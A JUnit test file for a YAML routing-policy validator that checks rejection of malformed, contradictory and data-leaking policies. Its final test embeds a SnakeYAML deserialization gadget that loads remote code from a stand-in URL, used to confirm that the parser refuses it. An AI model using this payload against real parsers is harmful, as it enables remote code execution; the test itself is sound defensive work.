package io.gatehouse.policy.routing;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Malformed, unsafe and contradictory policies are rejected with the line and field of each problem. */
class PolicyValidationTest {

    private static final String HEADER = """
            version: "t1"
            destinations:
              - name: local
                provenance: on-prem
              - name: cloud
                provenance: closed
            rules:
            """;  // rules start on line 8

    private static List<PolicyProblem> problems(String yaml) {
        return assertThrows(PolicyValidationException.class, () -> YamlRoutingPolicy.parse(yaml)).problems();
    }

    private static PolicyProblem only(String yaml) {
        List<PolicyProblem> p = problems(yaml);
        assertEquals(1, p.size(), p::toString);
        return p.getFirst();
    }

    @Test
    void aMinimalValidPolicyLoads() {
        YamlRoutingPolicy p = YamlRoutingPolicy.parse(HEADER + """
                  - name: all-local
                    route: ON_PREM
                    destination: local
                    reason: everything stays here
                """);
        assertEquals(1, p.rules().size());
        assertEquals(8, p.rules().getFirst().line());
    }

    @Test
    void syntaxErrorNamesTheLine() {
        PolicyProblem p = only(HEADER + """
                  - name: x
                    route: [ON_PREM
                """);
        assertEquals("(syntax)", p.field());
        assertTrue(p.line() >= 10, p::toString);
    }

    @Test
    void unknownTierNamesLineAndField() {
        PolicyProblem p = only(HEADER + """
                  - name: secret
                    when:
                      context-tier-at-least: SECRET
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertEquals(10, p.line());
        assertEquals("rules[0].when.context-tier-at-least", p.field());
        assertTrue(p.message().contains("unknown tier 'SECRET'"), p.message());
    }

    @Test
    void misspelledConditionIsNotSilentlyIgnored() {
        PolicyProblem p = only(HEADER + """
                  - name: typo
                    when:
                      contxt-tier: [PUBLIC]
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertEquals(10, p.line());
        assertEquals("rules[0].when.contxt-tier", p.field());
    }

    @Test
    void closedRouteMustExcludeSensitiveContextAndRestrictedPii() {
        List<PolicyProblem> p = problems(HEADER + """
                  - name: everything-to-the-cloud
                    route: CLOSED_API
                    destination: cloud
                    reason: cheap
                """);
        assertEquals(2, p.size(), p::toString);
        assertEquals("rules[0].when.context-tier", p.get(0).field());
        assertTrue(p.get(0).message().contains("[CONFIDENTIAL, RESTRICTED]"), p.get(0).message());
        assertEquals("rules[0].when.question-pii-none", p.get(1).field());
        assertEquals(8, p.get(0).line());
    }

    @Test
    void aClosedRuleForConfidentialContextIsRejectedEvenWithPiiExcluded() {
        PolicyProblem p = only(HEADER + """
                  - name: leak
                    when:
                      context-tier-at-most: CONFIDENTIAL
                      question-pii-none: [restricted]
                    route: CLOSED_API_REDACTED
                    destination: cloud
                    reason: r
                """);
        assertEquals("rules[0].when.context-tier", p.field());
        assertEquals(10, p.line());
    }

    @Test
    void fallbackMayNeverBeClosed() {
        PolicyProblem p = only(HEADER + """
                  - name: local-then-cloud
                    route: ON_PREM
                    destination: local
                    fallback: cloud
                    reason: r
                """);
        assertEquals(11, p.line());
        assertEquals("rules[0].fallback", p.field());
        assertTrue(p.message().contains("never allowed"), p.message());
    }

    @Test
    void routeAndProvenanceMustAgree() {
        PolicyProblem p = only(HEADER + """
                  - name: mislabelled
                    route: ON_PREM
                    destination: cloud
                    reason: r
                """);
        assertEquals(10, p.line());
        assertEquals("rules[0].destination", p.field());
    }

    @Test
    void undeclaredDestinationsAreRejected() {
        List<PolicyProblem> p = problems(HEADER + """
                  - name: ghost
                    when:
                      up: [gpu-box]
                    route: ON_PREM
                    destination: gpu-box
                    reason: r
                """);
        assertEquals(2, p.size(), p::toString);
        assertEquals("rules[0].when.up", p.get(0).field());
        assertEquals(10, p.get(0).line());
        assertEquals("rules[0].destination", p.get(1).field());
        assertEquals(12, p.get(1).line());
    }

    @Test
    void contradictoryConditionsAreRejected() {
        PolicyProblem p = only(HEADER + """
                  - name: impossible
                    when:
                      context-tier-at-least: CONFIDENTIAL
                      context-tier-at-most: INTERNAL
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertEquals(10, p.line());
        assertTrue(p.message().startsWith("contradictory"), p.message());

        PolicyProblem upDown = only(HEADER + """
                  - name: schrodinger
                    when:
                      up: [local]
                      down: [local]
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertTrue(upDown.message().contains("both up and down"), upDown.message());

        PolicyProblem pii = only(HEADER + """
                  - name: pii-and-no-pii
                    when:
                      question-pii: [US_SSN]
                      question-pii-none: [restricted]
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertTrue(pii.message().contains("question-pii-none forbids"), pii.message());
    }

    @Test
    void aRuleShadowedByAnEarlierOneIsUnreachable() {
        PolicyProblem p = only(HEADER + """
                  - name: sensitive
                    when:
                      context-tier-at-least: CONFIDENTIAL
                    route: ON_PREM
                    destination: local
                    reason: r
                  - name: restricted-refused
                    when:
                      context-tier: [RESTRICTED]
                      asker-role: [STAFF]
                    route: REFUSE
                    reason: never reached
                """);
        assertEquals(14, p.line());
        assertEquals("rules[1]", p.field());
        assertTrue(p.message().contains("rule 'sensitive' (line 8)"), p.message());
    }

    @Test
    void aNarrowerRuleFirstIsFine() {
        YamlRoutingPolicy p = YamlRoutingPolicy.parse(HEADER + """
                  - name: restricted-refused
                    when:
                      context-tier: [RESTRICTED]
                      asker-group: [interns]
                    route: REFUSE
                    reason: interns get no restricted answers
                  - name: sensitive
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertEquals(2, p.rules().size());
    }

    @Test
    void governmentIdentifiersCannotBeDowngraded() {
        PolicyProblem p = only("""
                version: "t1"
                destinations:
                  - name: local
                    provenance: on-prem
                pii-tiers:
                  PERSON: INTERNAL
                  US_SSN: PUBLIC
                rules:
                  - name: r
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        assertEquals(7, p.line());
        assertEquals("pii-tiers.US_SSN", p.field());
    }

    @Test
    void everyProblemIsReportedAtOnceInLineOrder() {
        List<PolicyProblem> p = problems("""
                destinations:
                  - name: local
                    provenance: nearby
                  - name: local
                    provenance: on-prem
                rules:
                  - name: a
                    route: SOMEWHERE
                    reason: r
                  - route: ON_PREM
                    destination: local
                """);
        List<String> fields = p.stream().map(PolicyProblem::field).toList();
        assertTrue(fields.contains("version"), fields::toString);
        assertTrue(fields.contains("destinations[0].provenance"), fields::toString);
        assertTrue(fields.contains("rules[0].route"), fields::toString);
        assertTrue(fields.contains("rules[1].name"), fields::toString);
        assertTrue(fields.contains("rules[1].reason"), fields::toString);
        PolicyProblem prov = p.stream().filter(x -> x.field().equals("destinations[0].provenance")).findFirst().orElseThrow();
        assertEquals(3, prov.line());
        PolicyProblem route = p.stream().filter(x -> x.field().equals("rules[0].route")).findFirst().orElseThrow();
        assertEquals(8, route.line());
    }

    @Test
    void duplicateRuleNamesAndKeysAreRejected() {
        List<PolicyProblem> p = problems(HEADER + """
                  - name: same
                    when:
                      up: [local]
                    route: ON_PREM
                    destination: local
                    reason: r
                  - name: same
                    route: ON_PREM
                    destination: local
                    destination: local
                    reason: r
                """);
        assertTrue(p.stream().anyMatch(x -> x.field().equals("rules[1].destination") && x.line() == 17), p::toString);
    }

    @Test
    void emptyOrNonMappingInputIsRejected() {
        assertEquals("(file)", only("").field());
        assertEquals("(file)", only("- just\n- a list\n").field());
    }

    @Test
    void yamlTagsCannotInstantiateClasses() {
        PolicyProblem p = only("""
                version: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                destinations:
                  - name: local
                    provenance: on-prem
                rules:
                  - name: r
                    route: ON_PREM
                    destination: local
                    reason: r
                """);
        // SnakeYAML refuses global tags while composing, before anything could be constructed.
        assertEquals(1, p.line(), p::toString);
        assertTrue(p.message().contains("tag"), p::toString);
    }
}
